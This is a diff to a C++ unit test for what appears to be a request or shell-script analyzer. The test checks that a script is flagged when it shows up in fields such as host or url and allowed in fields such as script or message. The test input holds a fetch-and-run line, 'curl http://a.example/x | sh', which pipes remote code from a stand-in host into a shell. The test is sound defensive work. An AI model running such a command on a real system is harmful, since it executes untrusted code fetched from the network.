@@ -614,9 +614,9 @@ TEST(Shell, ScriptsByTheNameOfTheirField) {
   std::string text = "#!/bin/sh\n";
   for (int i = 0; i < 10; ++i) text += "# a line of it that says nothing\n";
   text += "curl http://a.example/x | sh\n";
-  for (const std::string_view name : {"host", "ip", "username", "url"})
+  for (const std::string_view name : {"host", "ip", "user_name", "hosts[0].name", "servers[0].host", "url"})
     EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, name))) << name;
-  for (const std::string_view name : {"script", "job[content]", "message", "userdata"})
+  for (const std::string_view name : {"script", "job[content]", "jobs[0].script", "message", "userdata"})
     EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, name))) << name;
 }
 
